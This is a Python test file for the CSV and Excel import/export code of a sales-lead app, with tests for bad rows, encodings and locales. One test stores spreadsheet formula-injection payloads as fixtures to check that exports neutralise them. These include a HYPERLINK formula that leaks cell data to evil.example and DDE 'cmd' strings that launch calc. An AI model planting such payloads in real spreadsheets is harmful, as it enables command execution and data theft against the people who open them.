import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import Workbook
from sqlmodel import func, select

from assistant.db.models import Lead, LeadEvent
from assistant.db.session import Sessionmaker, transaction
from assistant.domain.capture import LeadDraft
from assistant.services import importexport, leads
from assistant.services.errors import UserError
from tests.helpers import user_scope

NOW = datetime(2026, 11, 25, 2, 0, tzinfo=UTC)


def _csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return ("\ufeff" + out.getvalue()).encode()


async def test_ten_thousand_rows_with_five_percent_bad_store_exactly_the_good_ones(
    sessionmaker: Sessionmaker,
) -> None:
    rows = [["姓名", "电话", "微信", "来源", "婚期", "阶段"]]
    expected_bad: dict[int, str] = {}
    for index in range(10_000):
        row_number = index + 2
        name, phone, date = f"客户{index}", f"139{index:08d}", "2027-05-01"
        if index % 20 == 0:  # 500 bad rows, four kinds
            kind = (index // 20) % 4
            if kind == 0:
                name = ""
                expected_bad[row_number] = "missing_name"
            elif kind == 1:
                phone = "12345"
                expected_bad[row_number] = "bad_phone"
            elif kind == 2:
                date = "某天"
                expected_bad[row_number] = "bad_date"
            else:
                phone = f"139{index - 1:08d}"
                expected_bad[row_number] = "duplicate"
        rows.append([name, phone, f"wx_{index:06d}", "抖音", date, "有效"])
    table = importexport.read_table(_csv(rows), "leads.csv")
    async with transaction(sessionmaker) as session:
        scope = await user_scope(session)
        result = await importexport.import_table(session, scope, table, NOW)
    assert result.stored == 9_500
    assert {bad.row: bad.reason for bad in result.bad} == expected_bad
    assert result.duplicates == 125
    async with sessionmaker() as session:
        count = (await session.exec(select(func.count()).select_from(Lead))).one()
        numbers = (await session.exec(select(func.max(Lead.number)))).one()
        created = (
            await session.exec(
                select(func.count()).select_from(LeadEvent).where(LeadEvent.kind == "created")
            )
        ).one()
    assert count == 9_500 and numbers == 9_500 and created == 9_500


async def test_export_then_import_round_trips_every_field(sessionmaker: Sessionmaker) -> None:
    async with transaction(sessionmaker) as session:
        scope = await user_scope(session, 1)
        draft = LeadDraft(
            name="王女士 <b>",
            phone="+8613800138000",
            wechat="wang_88",
            source="转介绍",
            strong_intent=True,
            notes='想要海景, 预算"两万"',
        )
        saved = await leads.create_lead(session, scope, draft, NOW)
        await leads.edit_field(session, scope, saved.lead, "date", "2027-05-01", NOW)
        await leads.edit_field(session, scope, saved.lead, "tags", "VIP 海景", NOW)
        await leads.move_stage(session, scope, saved.lead, "won", NOW, amount=12000.5)
        other = await leads.create_lead(session, scope, LeadDraft(name="Tom"), NOW)
        await leads.set_grade(session, scope, other.lead, "B", NOW)
        await leads.move_stage(session, scope, other.lead, "lost", NOW, reason="价格太高")
        first, count = await importexport.export_csv(session, scope)
    assert count == 2 and first.startswith("\ufeff".encode())
    async with transaction(sessionmaker) as session:
        fresh = await user_scope(session, 2)
        table = importexport.read_table(first, "export.csv")
        result = await importexport.import_table(session, fresh, table, NOW)
        assert result.stored == 2 and result.bad == []
        second, _ = await importexport.export_csv(session, fresh)

    def body(data: bytes) -> list[list[str]]:
        parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        return [row[:-1] for row in parsed]  # the owner column names the exporting person

    assert body(second) == body(first)


async def test_xlsx_with_english_headers_is_imported(sessionmaker: Sessionmaker) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Name", "Phone", "Event date", "Source", "Grade", "Manual grade"])
    sheet.append(["Mary", "+44 7911 123456", datetime(2027, 1, 10), "referral", "", ""])
    sheet.append(["Bob", 13800138000, "next Saturday", "walk-in", "C", "yes"])
    sheet.append(["", "13900139000", "", "", "", ""])
    buffer = io.BytesIO()
    book.save(buffer)
    table = importexport.read_table(buffer.getvalue(), "leads.xlsx")
    async with transaction(sessionmaker) as session:
        scope = await user_scope(session)
        result = await importexport.import_table(session, scope, table, NOW)
    assert result.stored == 2
    assert [(bad.row, bad.reason) for bad in result.bad] == [(4, "missing_name")]
    async with sessionmaker() as session:
        found = {lead.name: lead for lead in (await session.exec(select(Lead))).all()}
    assert found["Mary"].phone == "+447911123456" and found["Mary"].grade == "A"
    assert found["Bob"].grade == "C" and found["Bob"].grade_manual
    assert found["Bob"].phone == "+8613800138000"


async def test_files_without_a_name_column_or_in_other_formats_are_refused(
    sessionmaker: Sessionmaker,
) -> None:
    async with transaction(sessionmaker) as session:
        scope = await user_scope(session)
        with pytest.raises(UserError) as error:
            await importexport.import_table(session, scope, [["Phone"], ["13800138000"]], NOW)
        assert error.value.key == "import_no_name_column"
    with pytest.raises(UserError) as error:
        importexport.read_table(b"PK\x03\x04", "leads.pdf")
    assert error.value.key == "import_bad_file"
    with pytest.raises(UserError) as error:
        importexport.read_table(b"not a workbook", "leads.xlsx")
    assert error.value.key == "import_bad_file"


async def test_gbk_encoded_csv_from_old_excel_is_read() -> None:
    data = "姓名,电话\n王女士,13800138000\n".encode("gb18030")
    assert importexport.read_table(data, "leads.csv") == [
        ["姓名", "电话"],
        ["王女士", "13800138000"],
    ]


async def test_a_rep_learns_of_a_colleagues_duplicate_without_its_number(
    sessionmaker: Sessionmaker,
) -> None:
    from assistant.services import teams

    async with transaction(sessionmaker) as session:
        owner = await user_scope(session, 1)
        _, invite = await teams.create_team(session, person=owner.person, name="T", now=NOW)
        rep_scope = await user_scope(session, 2)
        await teams.join_team(session, person=rep_scope.person, code=invite.code, now=NOW)
        owner = await leads.actor_of(session, owner.person)
        await leads.create_lead(session, owner, LeadDraft(name="a", phone="+8613800138000"), NOW)
        rep = await leads.actor_of(session, rep_scope.person)
        table = [["Name", "Phone"], ["b", "13800138000"]]
        result = await importexport.import_table(session, rep, table, NOW)
        own = await importexport.import_table(session, owner, table, NOW)
    assert [(bad.reason, bad.value) for bad in result.bad] == [("duplicate", "")]
    assert [(bad.reason, bad.value) for bad in own.bad] == [("duplicate", "1")]


async def test_exported_cells_never_start_a_formula_and_read_back_exactly(
    sessionmaker: Sessionmaker,
) -> None:
    hostile = {
        "name": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
        "notes": "+cmd|' /C calc'!A0",
        "tags": "@SUM(1+1)*cmd|' /C calc'!A0",
        "source": "-2+3+cmd|' /C calc'!A0",
    }
    async with transaction(sessionmaker) as session:
        scope = await user_scope(session, 1)
        draft = LeadDraft(
            name=hostile["name"],
            phone="+8613800138000",
            source=hostile["source"],
            notes=hostile["notes"],
        )
        saved = await leads.create_lead(session, scope, draft, NOW)
        await leads.edit_field(session, scope, saved.lead, "tags", hostile["tags"], NOW)
        quoted = await leads.create_lead(session, scope, LeadDraft(name="'Tom"), NOW)
        await leads.move_stage(session, scope, quoted.lead, "lost", NOW, reason="=1+1")
        first, _ = await importexport.export_csv(session, scope)
    cells = [cell for row in csv.reader(io.StringIO(first.decode("utf-8-sig"))) for cell in row]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    for value in [*hostile.values(), "+8613800138000", "=1+1"]:
        assert "'" + value in cells
    assert "''Tom" in cells
    async with transaction(sessionmaker) as session:
        fresh = await user_scope(session, 2)
        result = await importexport.import_table(
            session, fresh, importexport.read_table(first, "export.csv"), NOW
        )
        assert result.stored == 2 and result.bad == []
        second, _ = await importexport.export_csv(session, fresh)
        imported = {
            lead.number: lead
            for lead in (await session.exec(select(Lead).where(Lead.team_id == fresh.team_id)))
        }
    assert imported[1].name == hostile["name"] and imported[1].phone == "+8613800138000"
    assert imported[1].intent == hostile["notes"] and imported[1].tags == hostile["tags"]
    assert imported[1].source == hostile["source"]
    assert imported[2].name == "'Tom" and imported[2].lost_reason == "=1+1"

    def body(data: bytes) -> list[list[str]]:
        return [row[:-1] for row in csv.reader(io.StringIO(data.decode("utf-8-sig")))]

    assert body(second) == body(first)


async def test_a_sheet_in_traditional_characters_is_read_and_kept_as_written(
    sessionmaker: Sessionmaker,
) -> None:
    rows = [
        ["姓名", "電話", "來源", "婚期", "階段", "備註", "標籤"],
        ["陳小姐", "13800138000", "轉介紹", "明年五月", "已邀約", "想要戶外拍攝", "預算高"],
        ["林先生", "13900139000", "朋友的朋友", "", "", "", ""],
    ]
    async with transaction(sessionmaker) as session:
        scope = await user_scope(session)
        result = await importexport.import_table(session, scope, _read(rows), NOW)
    assert result.stored == 2 and result.bad == []
    async with sessionmaker() as session:
        found = {lead.name: lead for lead in (await session.exec(select(Lead))).all()}
    chen = found["陳小姐"]
    assert chen.source == "referral" and chen.grade == "A" and chen.stage == "invited"
    assert chen.event_date is not None and (chen.event_date.year, chen.event_date.month) == (
        2027,
        5,
    )
    assert chen.intent == "想要戶外拍攝" and chen.tags == "預算高"
    assert found["林先生"].source == "朋友的朋友"


def _read(rows: list[list[str]]) -> list[list[str]]:
    return importexport.read_table(_csv(rows), "leads.csv")


async def test_a_row_with_an_over_long_cell_is_a_bad_row_and_the_others_are_stored(
    sessionmaker: Sessionmaker,
) -> None:
    rows = [["姓名", "电话", "备注"], ["王女士", "13800138000", "x" * 5_000], ["李先生", "", ""]]
    async with transaction(sessionmaker) as session:
        scope = await user_scope(session)
        result = await importexport.import_table(session, scope, _read(rows), NOW)
    assert result.stored == 1
    assert [(bad.row, bad.reason) for bad in result.bad] == [(2, "cell_too_long")]


async def test_a_bad_created_or_follow_up_cell_is_a_bad_row_not_an_aborted_import(
    sessionmaker: Sessionmaker,
) -> None:
    rows = [
        ["姓名", "电话", "创建时间", "下次跟进"],
        ["王女士", "13800138000", "9999-12-31 23:59", ""],
        ["李先生", "13800138001", "0001-01-01 00:00", ""],
        ["赵女士", "13800138002", "昨天下午", ""],
        ["钱先生", "13800138003", "2026-11-01 10:00", "9999-12-31 23:59"],
        ["孙女士", "13800138004", "2026-11-01 10:00", "2026-12-01 10:00"],
    ]
    async with transaction(sessionmaker) as session:
        scope = await user_scope(session)
        scope.person.timezone = "America/Los_Angeles"  # 9999-12-31 here is past UTC's end
        result = await importexport.import_table(session, scope, _read(rows), NOW)
    assert result.stored == 1
    assert [(bad.row, bad.reason) for bad in result.bad] == [
        (2, "bad_time"),
        (3, "bad_time"),
        (4, "bad_time"),
        (5, "bad_time"),
    ]


async def test_rows_checked_before_the_team_changed_are_checked_again_when_stored(
    sessionmaker: Sessionmaker,
) -> None:
    rows = [["姓名", "婚期"], ["王女士", "下个月"]]
    table = _read(rows)
    async with transaction(sessionmaker) as session:
        scope = await user_scope(session)
        early = importexport.check_table(table, importexport.RowRules.of(scope, NOW))
    later = datetime(2027, 1, 10, 2, 0, tzinfo=UTC)  # "next month" is February now
    async with transaction(sessionmaker) as session:
        scope = await user_scope(session)
        result = await importexport.store_checked(session, scope, early, later)
    assert result.stored == 1
    async with sessionmaker() as session:
        [lead] = (await session.exec(select(Lead))).all()
    assert lead.event_date is not None and lead.event_date.month == 2


@pytest.mark.parametrize(
    ("locale", "won", "lost", "yes", "referral"),
    [
        ("zh-Hans", "成交", "流失", "是", "转介绍"),
        ("en", "won", "lost", "yes", "Referral"),
        ("zh-Hant", "成交", "流失", "是", "轉介紹"),
    ],
)
async def test_export_speaks_the_readers_language_and_any_language_reads_back(
    sessionmaker: Sessionmaker, locale: str, won: str, lost: str, yes: str, referral: str
) -> None:
    async with transaction(sessionmaker) as session:
        scope = await user_scope(session, 1)
        scope.person.locale = locale
        draft = LeadDraft(
            name="王女士", phone="+8613800138000", source="转介绍", strong_intent=True
        )
        saved = await leads.create_lead(session, scope, draft, NOW)
        await leads.move_stage(session, scope, saved.lead, "won", NOW, amount=12000)
        other = await leads.create_lead(session, scope, LeadDraft(name="Tom"), NOW)
        await leads.set_grade(session, scope, other.lead, "B", NOW)
        await leads.move_stage(session, scope, other.lead, "lost", NOW, reason="价格太高")
        exported, _ = await importexport.export_csv(session, scope)
    header, *rows = csv.reader(io.StringIO(exported.decode("utf-8-sig")))
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    labels = importexport.catalogue(locale)["export_headers"]
    assert [cell[labels["stage"]] for cell in cells] == [won, lost]
    assert cells[0][labels["source"]] == referral and cells[0][labels["strong_intent"]] == yes
    assert cells[1][labels["grade_manual"]] == yes
    for reader, number in (("zh-Hans", 2), ("en", 3)):  # read by someone in either language
        async with transaction(sessionmaker) as session:
            fresh = await user_scope(session, number)
            fresh.person.locale = reader
            result = await importexport.import_table(
                session, fresh, importexport.read_table(exported, "export.csv"), NOW
            )
            assert result.stored == 2 and result.bad == []
            imported = {
                lead.name: lead
                for lead in (await session.exec(select(Lead).where(Lead.team_id == fresh.team_id)))
            }
        assert imported["王女士"].stage == "won" and imported["王女士"].source == "referral"
        assert imported["王女士"].strong_intent and imported["王女士"].amount == 12000
        assert imported["Tom"].stage == "lost" and imported["Tom"].grade_manual
        assert imported["Tom"].grade == "B"


async def test_a_nul_character_in_a_big_import_is_dropped_on_both_databases(
    sessionmaker: Sessionmaker,
) -> None:
    rows = [["姓名", "备注"]] + [[f"客户{index}", "想要海景"] for index in range(200)]
    rows[150][1] = "想要\x00海景"
    async with transaction(sessionmaker) as session:
        scope = await user_scope(session)
        result = await importexport.import_table(session, scope, _read(rows), NOW)
    assert result.stored == 200
    async with sessionmaker() as session:
        notes = {lead.intent for lead in (await session.exec(select(Lead))).all()}
    assert notes == {"想要海景"}


async def test_an_export_for_a_traditional_reader_has_traditional_headers_and_labels(
    sessionmaker: Sessionmaker,
) -> None:
    from tests.traditional import simplified_characters

    async with transaction(sessionmaker) as session:
        scope = await user_scope(session, 1)
        scope.person.locale = "zh-Hant"
        draft = LeadDraft(name="陳小姐", phone="+886912345678", source="转介绍")
        await leads.create_lead(session, scope, draft, NOW)
        data, count = await importexport.export_csv(session, scope)
    [header, row] = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert count == 1 and header[:6] == ["編號", "姓名", "電話", "聊天帳號", "聊天工具", "來源"]
    assert "建立時間" in header and "下次跟進" in header and "負責人" in header
    assert not simplified_characters("".join(header))
    assert row[1] == "陳小姐" and row[5] == "轉介紹"


async def test_an_export_carries_each_leads_chat_app_and_an_import_keeps_it(
    sessionmaker: Sessionmaker,
) -> None:
    async with transaction(sessionmaker) as session:
        scope = await user_scope(session, 1)
        scope.team.messenger, scope.team.phone_region = "line", "TW"
        on_line = LeadDraft(name="陳小姐", phone="+886912345678", wechat="chen88", messenger="line")
        await leads.create_lead(session, scope, on_line, NOW)
        await leads.create_lead(
            session, scope, LeadDraft(name="王女士", wechat="wang_88", messenger="wechat"), NOW
        )
        data, _ = await importexport.export_csv(session, scope)
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert [row[3:5] for row in parsed] == [["聊天账号", "聊天工具"], ["chen88", "LINE"],
                                            ["wang_88", "微信"]]  # fmt: skip
    async with transaction(sessionmaker) as session:
        fresh = await user_scope(session, 2)  # a team on WeChat in mainland China
        result = await importexport.import_table(
            session, fresh, importexport.read_table(data, "export.csv"), NOW
        )
        assert result.stored == 2 and result.bad == []
        stored = (await session.exec(select(Lead).where(Lead.team_id == fresh.team_id))).all()
    assert sorted((lead.name, lead.messenger, lead.wechat) for lead in stored) == [
        ("王女士", "wechat", "wang_88"),
        ("陳小姐", "line", "chen88"),
    ]


async def test_a_sheet_with_an_apps_own_column_imports_ids_on_that_app(
    sessionmaker: Sessionmaker,
) -> None:
    table = [
        ["姓名", "電話", "LINE ID", "WhatsApp", "聊天工具"],
        ["陳小姐", "0912 345 678", "Chen88", "", ""],
        ["黃先生", "", "", "+852 6123 4567", ""],
        ["林先生", "", "", "", "Telegram"],
    ]
    async with transaction(sessionmaker) as session:
        scope = await user_scope(session)
        scope.team.phone_region = "TW"
        result = await importexport.import_table(session, scope, table, NOW)
        stored = (await session.exec(select(Lead).order_by(Lead.number))).all()
    assert result.stored == 2
    assert [(bad.row, bad.reason, bad.value) for bad in result.bad] == [
        (4, "bad_messenger", "Telegram")
    ]
    assert [(lead.phone, lead.messenger, lead.wechat) for lead in stored] == [
        ("+886912345678", "line", "chen88"),
        (None, "whatsapp", "+85261234567"),
    ]
